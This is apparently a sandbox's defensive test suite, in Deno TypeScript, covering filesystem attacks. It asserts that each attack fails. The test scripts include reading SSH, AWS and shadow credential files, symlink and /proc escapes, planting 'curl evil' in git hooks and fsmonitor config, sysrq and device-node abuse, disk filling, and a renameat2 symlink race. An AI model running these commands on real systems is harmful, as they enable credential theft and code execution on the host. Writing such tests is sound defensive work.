// ATTACKS.md §4.1 — filesystem.
import {
  assert,
  assertEquals,
  assertMatch,
  assertNotIncludes,
  assertRejects,
} from "../../assert.ts";
import { exec, resolvePolicy, SandboxSetupError } from "../../../src/sandbox/mod.ts";
import { spawnWorkspaceAsGiven } from "../../../src/sandbox/spawn.ts";
import { SANDBOX_TESTS, withWorkspace } from "../harness.ts";
import { attackSuite } from "./attack_table.ts";

const hostHome = Deno.env.get("HOME") ?? "/root";

/** A canary file outside any workspace; returns its path. */
async function canary(content: string): Promise<string> {
  const dir = await Deno.makeTempDir({ prefix: "coop-canary-" });
  await Deno.writeTextFile(`${dir}/secret`, content);
  return `${dir}/secret`;
}

/** Removes a canary's directory (each run of the suite left three behind in /tmp). */
async function removeCanary(path: string): Promise<void> {
  await Deno.remove(path.slice(0, path.lastIndexOf("/")), { recursive: true });
}

/** A repository the owner keeps in the workspace, and one in a project below it. */
async function plantRepository(ws: string): Promise<string> {
  for (const repo of [".git", "app/.git"]) {
    await Deno.mkdir(`${ws}/${repo}/hooks`, { recursive: true });
    await Deno.writeTextFile(`${ws}/${repo}/config`, "[core]\n\tbare = false\n");
    await Deno.writeTextFile(`${ws}/${repo}/hooks/pre-commit`, "#!/bin/sh\nexit 0\n");
  }
  return "";
}

/** Both repositories exactly as planted: no config line, no hook, no rename. */
async function assertRepositoryIntact(ws: string): Promise<void> {
  for (const repo of [".git", "app/.git"]) {
    assertEquals(await Deno.readTextFile(`${ws}/${repo}/config`), "[core]\n\tbare = false\n");
    const hooks = [...Deno.readDirSync(`${ws}/${repo}/hooks`)].map((e) => e.name);
    assertEquals(hooks, ["pre-commit"]);
  }
  assert(!(await Deno.stat(`${ws}/.g`).then(() => true, () => false)), ".git was not renamed");
}

attackSuite("§4.1", [
  {
    id: "F1",
    name: "read owner secrets",
    prepare: () => canary("F1-SECRET-BYTES"),
    teardown: removeCanary,
    script:
      `cat ${hostHome}/.ssh/id_ed25519 ${hostHome}/.aws/credentials /etc/shadow /var/lib/coop/*.db "$1" 2>&1; echo rc=$?`,
    expect: (r) => {
      assertNotIncludes(r.stdout, "F1-SECRET-BYTES");
      assertMatch(r.stdout, /No such file or directory/);
      assertMatch(r.stdout, /rc=1/);
    },
  },
  {
    id: "F2",
    name: "write outside the workspace",
    prepare: () => canary("F2-original"),
    teardown: removeCanary,
    script: `touch /etc/x /usr/bin/x ${hostHome}/.bashrc 2>&1; echo tampered >> "$1"; echo rc=$?`,
    expect: async (r, _ws, path) => {
      assertMatch(r.stdout, /\/etc\/x': Read-only file system/);
      assertMatch(r.stdout, /\/usr\/bin\/x': Read-only file system/);
      assertEquals(await Deno.readTextFile(path), "F2-original");
      assert(!Deno.statSync("/usr/bin").isSymlink && !exists("/usr/bin/x"));
    },
  },
  {
    id: "F3",
    name: "symlink escape through the workspace",
    prepare: () => canary("F3-original"),
    teardown: removeCanary,
    script:
      `ln -s "$1" /work/link && echo tampered >> /work/link; ln -s /etc/passwd /work/p && echo x >> /work/p; echo done`,
    expect: async (r, ws, path) => {
      assertEquals(await Deno.readTextFile(path), "F3-original");
      assertMatch(r.stderr, /Read-only file system|No such file/);
      // The link itself is the workspace's; what it names inside is the sandbox's world.
      assert(Deno.lstatSync(`${ws}/link`).isSymlink);
    },
  },
  // F4 (symlink swap race during setup) races many sandboxes; its tests are below the table.
  {
    id: "F5",
    name: "protected-path replacement (.git hooks)",
    prepare: (ws) => plantRepository(ws),
    script: [
      "mv .git .g",
      "mkdir -p .git/hooks",
      "rm -rf .git/hooks",
      "ln -s /tmp/h .git/hooks2",
      "echo 'curl evil' > .git/hooks/pre-commit",
      "mv app/.git app/.g",
      "echo 'curl evil' > app/.git/hooks/post-checkout",
    ].map((c) => `${c} 2>&1; echo "rc=$?"`).join("; "),
    expect: async (r, ws) => {
      // A failed `>` redirection is reported by the shell on its own stderr.
      const said = r.stdout + r.stderr;
      assertMatch(said, /cannot move '\.git' to '\.g': Device or resource busy/);
      assertMatch(said, /cannot remove '\.git\/hooks\/pre-commit': Read-only file system/);
      assertMatch(said, /\.git\/hooks2': Read-only file system/);
      assertMatch(said, /cannot move 'app\/\.git' to 'app\/\.g': Device or resource busy/);
      assertEquals(said.match(/Read-only file system/g)?.length, 4, said);
      await assertRepositoryIntact(ws);
    },
  },
  { id: "F7", name: "move-to-readable (macOS)", waitsFor: "macOS only", expect: () => {} },
  {
    id: "F8",
    name: "/proc/<pid>/root traversal",
    script: "ls /proc/1/root/ 2>&1; ls /proc/*/root/home 2>&1; echo done",
    expect: (r) => {
      assertNotIncludes(r.stdout, "root\n");
      assertMatch(r.stdout, /Permission denied|No such file/);
      assertMatch(r.stdout, /done/);
    },
  },
  {
    id: "F9",
    name: "/proc environ and cmdline of host processes",
    script: "cat /proc/*/cmdline | tr '\\0' ' '; echo; ls -d /proc/[0-9]* | wc -l",
    expect: (r) => {
      assertNotIncludes(r.stdout, "deno");
      const count = Number(r.stdout.trim().split("\n").at(-1));
      assert(count <= 6, `${count} processes visible`);
    },
  },
  {
    id: "F10",
    name: "/proc/sys and sysrq",
    prepare: () => Deno.readTextFile("/proc/sys/kernel/sysrq").catch(() => "unreadable"),
    script: "echo 1 > /proc/sys/kernel/sysrq; echo s=$?; echo b > /proc/sysrq-trigger; echo t=$?",
    expect: async (r, _ws, before) => {
      assertMatch(r.stdout, /s=[12]/);
      assertMatch(r.stdout, /t=[12]/);
      // /proc/sys is a read-only bind; this kernel's fresh procfs has no sysrq-trigger at all.
      assertMatch(
        r.stderr,
        /sysrq: (Read-only file system|Permission denied|Directory nonexistent)/,
      );
      const after = await Deno.readTextFile("/proc/sys/kernel/sysrq").catch(() => "unreadable");
      assertEquals(after, before, "the host's sysrq setting is unchanged");
    },
  },
  {
    id: "F11",
    name: "/sys info and writes",
    script:
      "ls /sys 2>&1; cat /sys/class/net/*/address 2>&1; echo x > /sys/kernel/uevent_helper; echo rc=$?",
    expect: (r) => {
      assertMatch(r.stdout, /cannot access '\/sys'/);
      assertMatch(r.stdout, /rc=[12]/);
    },
  },
  {
    id: "F12",
    name: "device node creation",
    script:
      "mknod /tmp/sda b 8 0; echo b=$?; mknod /work/null c 1 3; echo c=$?; mkfifo /tmp/f && echo fifo=ok",
    expect: (r) => {
      assertMatch(r.stdout, /b=1/);
      assertMatch(r.stdout, /c=1/);
      // Landlock (no MAKE_BLOCK/MAKE_CHAR right) answers before the capability check.
      assertMatch(r.stderr, /mknod: \/tmp\/sda: (Permission denied|Operation not permitted)/);
      assertMatch(r.stdout, /fifo=ok/);
    },
  },
  {
    id: "F13",
    name: "raw device access",
    script: "ls /dev; cat /dev/mem 2>&1; dd if=/dev/sda of=/dev/null count=1 2>&1; echo done",
    expect: (r) => {
      const listing = r.stdout.split("\n").slice(0, r.stdout.split("\n").indexOf("zero") + 1);
      assertEquals(listing, [
        "fd",
        "full",
        "null",
        "ptmx",
        "pts",
        "random",
        "shm",
        "stderr",
        "stdin",
        "stdout",
        "tty",
        "urandom",
        "zero",
      ]);
      assertMatch(r.stdout, /\/dev\/mem: No such file/);
      assertMatch(r.stdout, /\/dev\/sda.*No such file/);
    },
  },
  {
    id: "F14",
    name: "setuid escalation",
    needs: ["bash"],
    script:
      "cp /bin/bash /work/b && chmod u+s /work/b; grep NoNewPrivs /proc/self/status; grep ' /work ' /proc/self/mountinfo",
    expect: (r) => {
      assertMatch(r.stdout, /NoNewPrivs:\s+1/);
      assertMatch(r.stdout, / \/work \S*nosuid/);
    },
  },
  {
    id: "F15",
    name: "exec from scratch dirs (policy: allowed)",
    script: "cp /bin/sh /tmp/x && /tmp/x -c 'echo ran-from-tmp'",
    expect: (r) => assertEquals(r.stdout, "ran-from-tmp\n"),
  },
  {
    id: "F17",
    name: "nested user namespace to regain mount capabilities",
    script: "unshare -Urm sh -c 'mount -t tmpfs x /etc && echo MOUNTED'; echo rc=$?",
    expect: (r) => {
      assertNotIncludes(r.stdout, "MOUNTED");
      assertMatch(r.stderr, /Operation not permitted/);
    },
  },
  {
    id: "F19",
    name: "chroot and pivot_root games",
    script: "chroot . /bin/true; echo c=$?; cd /; cd ..; pwd",
    expect: (r) => {
      assertMatch(r.stdout, /c=125/);
      assertMatch(r.stderr, /Operation not permitted/);
      assertMatch(r.stdout, /^\/$/m);
    },
  },
  {
    id: "F20",
    name: "/proc/self/exe overwrite of the init",
    script: "cat /proc/1/exe > /dev/null; echo r=$?; echo x > /proc/1/exe; echo w=$?",
    expect: (r) => {
      assertMatch(r.stdout, /r=1/);
      assertMatch(r.stdout, /w=[12]/);
      assertMatch(r.stderr, /Permission denied/);
    },
  },
  {
    id: "F21",
    name: "workspace disk fill stops at the file-size limit (RLIMIT_FSIZE)",
    policy: { fileSizeBytes: 8 << 20 },
    script: "dd if=/dev/zero of=/work/big bs=1M count=64 2>&1; echo rc=$?",
    expect: async (r, ws) => {
      assertMatch(r.stdout, /rc=(153|1)\b/); // SIGXFSZ (128+25), or EFBIG when it is ignored
      const size = (await Deno.stat(`${ws}/big`)).size;
      assert(size <= 8 << 20, `${size} bytes written to the host's disk`);
    },
  },
  {
    id: "F22",
    name: "tmpfs fill stops at /tmp's size",
    script: "dd if=/dev/zero of=/tmp/f bs=1M count=200 2>&1; echo rc=$?; du -m /tmp/f | cut -f1",
    expect: (r) => {
      assertMatch(r.stdout, /No space left on device/);
      const mb = Number(r.stdout.trim().split("\n").at(-1));
      assert(mb <= 64, `${mb} MiB written`);
    },
  },
  {
    id: "F23",
    name: "host-side execution planting (.git/config, hooks of existing repositories)",
    prepare: (ws) => plantRepository(ws),
    script: [
      "git config core.fsmonitor 'curl evil'",
      "echo '[core] fsmonitor = curl evil' >> .git/config",
      "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/post-merge",
      "echo '[core] hooksPath = /work/h' >> app/.git/config",
    ].map((c) => `${c} 2>&1; echo "rc=$?"`).join("; "),
    expect: async (r, ws) => {
      assertEquals(r.stdout.match(/rc=0/g), null, r.stdout);
      await assertRepositoryIntact(ws);
    },
  },
  {
    id: "F24",
    name: "cross-user workspace access",
    script: "ls /home /workspaces 2>&1; cat ../bob/notes.md 2>&1; ls /",
    expect: (r) => {
      assertMatch(r.stdout, /cannot access '\/home'/);
      assertMatch(r.stdout, /\.\.\/bob\/notes\.md: No such file/);
    },
  },
]);

function exists(path: string): boolean {
  try {
    Deno.lstatSync(path);
    return true;
  } catch {
    return false;
  }
}

Deno.test({
  name: "§4.1 F25: no residue from a previous run in /tmp",
  ignore: Deno.env.get("COOP_SANDBOX_TEST") !== "1",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: () =>
    withWorkspace(async (workspace) => {
      await exec({ workspace }, ["sh", "-c", "echo residue > /tmp/left-behind"]);
      const r = await exec({ workspace }, ["sh", "-c", "ls -A /tmp; cat /tmp/* 2>&1"]);
      assertNotIncludes(r.stdout, "residue");
      assertNotIncludes(r.stdout, "left-behind");
    }),
});

const ELOOP = 40;
const PYTHON3 = ["/usr/bin/python3", "/usr/local/bin/python3"].find((p) => exists(p));

function sandboxTest(name: string, fn: () => Promise<void>, skip?: string): void {
  Deno.test({
    name: skip ? `${name} — skipped: ${skip}` : name,
    ignore: !SANDBOX_TESTS || skip !== undefined,
    sanitizeResources: false,
    sanitizeOps: false,
    fn,
  });
}

/** `parent/data`: a real directory holding the file `marker`. */
async function dataDir(parent: string): Promise<string> {
  await Deno.mkdir(`${parent}/data`);
  await Deno.writeTextFile(`${parent}/data/marker`, "");
  return `${parent}/data`;
}

// The swapper: renameat2(RENAME_EXCHANGE) flips `data` between the real directory and a
// symlink to /etc atomically, so `data` always exists and is one or the other.
const SWAPPER = [
  "import ctypes, os, sys",
  "libc = ctypes.CDLL(None, use_errno=True)",
  "os.chdir(sys.argv[1])",
  "os.symlink('/etc', 'swap')",
  "print('ready', flush=True)",
  "while True:",
  "    if libc.renameat2(-100, b'data', -100, b'swap', 2) != 0:",
  "        sys.exit('renameat2: ' + os.strerror(ctypes.get_errno()))",
].join("\n");

sandboxTest(
  "§4.1 F4: symlink swap race during setup — 200 sandboxes: each fails closed or mounts the original, never /etc",
  () =>
    withWorkspace(async (parent) => {
      const workspace = await dataDir(parent);
      const swapper = new Deno.Command(PYTHON3!, {
        args: ["-c", SWAPPER, parent],
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      const outcomes = { failedClosed: 0, original: 0 };
      try {
        const reader = swapper.stdout.getReader();
        let said = "";
        while (!said.includes("\n")) {
          const { value, done } = await reader.read();
          if (done) break;
          said += new TextDecoder().decode(value);
        }
        assertEquals(said, "ready\n");
        reader.releaseLock();
        for (let i = 0; i < 200; i++) {
          try {
            const r = await exec({ workspace }, ["sh", "-c", "ls -A /work"], { timeoutMs: 20_000 });
            assertNotIncludes(r.stdout, "passwd", `run ${i} saw the host's /etc`);
            assertEquals(r.stdout, "marker\n", `run ${i}`);
            outcomes.original++;
          } catch (error) {
            if (!(error instanceof SandboxSetupError)) throw error;
            assertEquals([error.step, error.errno], ["mount-workspace", ELOOP], error.message);
            outcomes.failedClosed++;
          }
        }
      } finally {
        swapper.kill("SIGKILL");
        await swapper.status;
        await swapper.stdout.cancel().catch(() => {});
        await swapper.stderr.cancel().catch(() => {});
      }
      console.log(`F4 race: ${JSON.stringify(outcomes)}`);
      assert(outcomes.failedClosed > 0, `the race never hit: ${JSON.stringify(outcomes)}`);
      assert(outcomes.original > 0, `the original never mounted: ${JSON.stringify(outcomes)}`);
    }),
  PYTHON3 ? undefined : "needs python3 (renameat2 through ctypes) for the swapper",
);

sandboxTest(
  "§4.1 F4: a workspace that is a symlink fails closed (ELOOP)",
  () =>
    withWorkspace(async (parent) => {
      await Deno.symlink("/etc", `${parent}/data`);
      const error = await assertRejects(
        () => exec({ workspace: `${parent}/data` }, ["ls", "/work"]),
        SandboxSetupError,
      );
      assertEquals([error.step, error.errno], ["mount-workspace", ELOOP]);
      assertMatch(error.message, /ELOOP.*symlink/);
    }),
);

sandboxTest(
  "§4.1 F4: a symlinked directory inside the opened path fails closed (ELOOP)",
  () =>
    withWorkspace(async (parent) => {
      // exec() resolves the parents once; swapped in after that, the C side must refuse them.
      await dataDir(parent);
      await Deno.symlink(parent, `${parent}/link`);
      const error = await assertRejects(async () => {
        const child = await spawnWorkspaceAsGiven(
          resolvePolicy({ workspace: `${parent}/link/data` }),
          ["ls", "/work"],
        );
        await child.status;
      }, SandboxSetupError);
      assertEquals([error.step, error.errno], ["mount-workspace", ELOOP]);
    }),
);

sandboxTest(
  "§4.1 F4: a workspace under a symlinked directory works (resolved once)",
  () =>
    withWorkspace(async (parent) => {
      await Deno.mkdir(`${parent}/real`);
      await dataDir(`${parent}/real`);
      await Deno.symlink(`${parent}/real`, `${parent}/link`);
      const r = await exec({ workspace: `${parent}/link/data` }, ["ls", "-A", "/work"]);
      assertEquals(r.stdout, "marker\n");
    }),
);
